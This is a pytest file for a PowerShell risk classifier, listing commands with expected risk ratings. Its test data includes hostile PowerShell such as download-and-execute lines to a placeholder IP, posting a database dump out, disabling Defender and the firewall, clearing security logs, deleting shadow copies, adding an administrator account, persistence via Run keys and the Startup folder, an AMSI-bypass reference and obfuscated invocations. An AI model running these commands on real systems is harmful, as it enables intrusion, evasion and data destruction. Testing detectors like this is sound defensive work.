"""Laws of reading PowerShell."""

import base64

import pytest

from workbench.facts import powershell
from workbench.facts.floor import static_risk
from workbench.facts.scope import Limits, Scope

LIMITS = Limits(time_ms=60_000)


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


SHORTCUT = (
    '$s = (New-Object -ComObject WScript.Shell).CreateShortcut("{}\\\\notes.lnk"); $s.TargetPath = "a.exe"; $s.Save()'
)
FETCHED = [
    ("ri -r -fo D:\\reports", "high"),
    ("gci D:\\reports -r | % { $_.Delete() }", "high"),
    ("Clear-Content D:\\reports\\*.txt", "high"),
    ("Clear-Content D:\\reports\\one.txt", "medium"),
    ('powershell -Command "Frobnicate"', "medium"),
    ("Invoke-WebRequest https://example.com/tool.exe -OutFile tool.exe; Start-Process .\\tool.exe", "high"),
    ('iwr https://example.com/t.exe -OutFile "$env:TEMP\\t.exe"\n$t = "$env:TEMP\\t.exe"\nStart-Process $t', "high"),
    ("(New-Object Net.WebClient).DownloadFile('https://example.com/t.ps1', 'C:\\t.ps1'); C:\\t.ps1", "high"),
    ("Invoke-WebRequest https://example.com/tool.exe -OutFile tool.exe; Get-FileHash tool.exe", "medium"),
    (SHORTCUT.format("$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"), "high"),
    (SHORTCUT.format("$home\\Desktop"), "medium"),
    ("Disable-WindowsOptionalFeature -Online -FeatureName Windows-Defender", "high"),
    ("Disable-WindowsOptionalFeature -Online -FeatureName Printing-Foundation", "medium"),
]
READS = [
    ("Get-Process | Sort-Object CPU -Descending | Select-Object -First 5", "low"),
    ("gci C:\\Logs -Recurse | measure", "low"),
    ("Get-Content .\\app.log -Tail 50 | Select-String error", "low"),
    ("Test-NetConnection db01 -Port 5432", "low"),
    ("Remove-Item C:\\Data -Recurse -WhatIf", "low"),
    ("Get-Help Remove-Item", "low"),
    ("Write-Host 'Remove-Item C:\\ -Recurse'", "low"),
    ("# Remove-Item C:\\ -Recurse\nGet-Date", "low"),
    ("Get-ChildItem Env:", "medium"),
    ("Get-Content C:\\Windows\\Panther\\unattend.xml", "high"),
    ("Get-Secret -Name deploy -AsPlainText", "high"),
]
WRITES = [
    ("Set-Content .\\note.txt 'x'", "medium"),
    ("New-Item -ItemType Directory D:\\reports", "medium"),
    ("Set-Content $env:TEMP\\note.txt 'x'", "low"),
    ("Restart-Service spooler", "medium"),
    ("Stop-Service WinDefend", "high"),
    ("Stop-Process -Name notepad", "medium"),
    ("Install-Module Pester", "medium"),
    ("Remove-Item .\\one.txt", "medium"),
    ("Remove-Item D:\\reports -Recurse -Force", "high"),
    ("ri *.log", "high"),
    ("Get-ChildItem D:\\ -Recurse | Remove-Item", "high"),
    ("Remove-Item $env:TEMP\\x -Recurse", "medium"),
    ("Clear-EventLog -LogName Security", "high"),
    ("Format-Volume -DriveLetter D", "high"),
    ("Set-ExecutionPolicy Bypass -Scope Process", "high"),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", "high"),
    ("Set-NetFirewallProfile -All -Enabled False", "high"),
    ("New-LocalUser eve", "high"),
    ("Add-LocalGroupMember -Group Administrators -Member eve", "high"),
    ("Set-ItemProperty HKCU:\\Software\\Shop -Name Theme -Value dark", "medium"),
    ("New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b.exe", "high"),
    ("Stop-Computer -Force", "high"),
    ("Register-ScheduledTask -TaskName a -Action $action", "high"),
    ("[IO.File]::Delete('D:\\one.txt')", "medium"),
    ("[IO.Directory]::Delete('D:\\reports', $true)", "high"),
    ("(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a', 'a.zip')", "medium"),
    ("Invoke-WebRequest https://example.com -OutFile page.html", "medium"),
    ("Invoke-RestMethod https://example.com -Method Post -InFile dump.sql", "high"),
    ("(Get-WmiObject Win32_ShadowCopy).Delete()", "high"),
    ("Invoke-CimMethod Win32_Process -MethodName Create -Arguments @{CommandLine='calc'}", "high"),
]
HIDDEN = [
    ("I`E`X $payload", "high"),
    ("iex 'Get-Date'", "low"),
    ("iex ('Remove-'+'Item D:\\reports -Recurse')", "high"),
    ("&('G'+'et-Da'+'te')", "low"),
    ("& ('{1}{0}' -f 'x','ie') $payload", "high"),
    ("& (-join ([char]71,[char]101,[char]116,'-Date'))", "low"),
    ("&$name", "high"),
    ("iex (iwr http://198.51.100.7/a.ps1)", "high"),
    ("powershell -nop -w hidden -enc " + _encoded("Get-Date"), "high"),
    ("powershell -Command \"Get-Date\"", "low"),
    ("pwsh -c 'Remove-Item D:\\reports -Recurse'", "high"),
    ("-join('etaD-teG'[-1..-8]) | iex", "high"),
    ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "high"),
    ("[Reflection.Assembly]::Load($bytes)", "high"),
]  # fmt: skip
SHAPES = [
    ("PS C:\\> Get-Date\n\nRemove-Item is not run here\nPS C:\\> Get-Process", "low"),
    ("PS C:\\Users\\me> Remove-Item D:\\reports -Recurse", "high"),
    ("function Wipe { Remove-Item D:\\reports -Recurse }", "medium"),
    ("function Wipe { Remove-Item D:\\reports -Recurse }\nWipe", "high"),
    ("if (Test-Path x) { Stop-Computer } else { Get-Date }", "high"),
    ("foreach ($n in 1..3) { New-LocalUser \"u$n\" }", "high"),
    ("$opts = @{ Name = 'x'; Delete = $true }\nGet-Item @opts", "low"),
    ("git status; docker ps", "low"),
    ("git push --force origin main", "high"),
    ("reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows` Defender /v DisableAntiSpyware /d 1", "high"),
    ("Get-Process > $null", "low"),
    ("Get-Process > D:\\list.txt", "medium"),
    ("", "low"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "risk"), READS + WRITES + HIDDEN + SHAPES + FETCHED)
def test_powershell_is_judged_by_what_its_commands_do(text: str, risk: str) -> None:
    """Verb, noun and arguments decide, through aliases, built names, blocks and prompts."""
    assert static_risk(text, "powershell", limits=LIMITS).risk.value == risk


@pytest.mark.parametrize(
    "text",
    ["(" * 30_000, "`" * 5001, "'" * 3001, "$a=" * 9000, '"$(' * 8000, "@'\n" * 5000, "&" * 20_000, "[char]65+" * 4000],
)
def test_hostile_powershell_is_read_to_its_end(text: str) -> None:
    """No text raises."""
    assert isinstance(powershell.read(text, "powershell", Scope(lambda *_: [], Limits())), list)
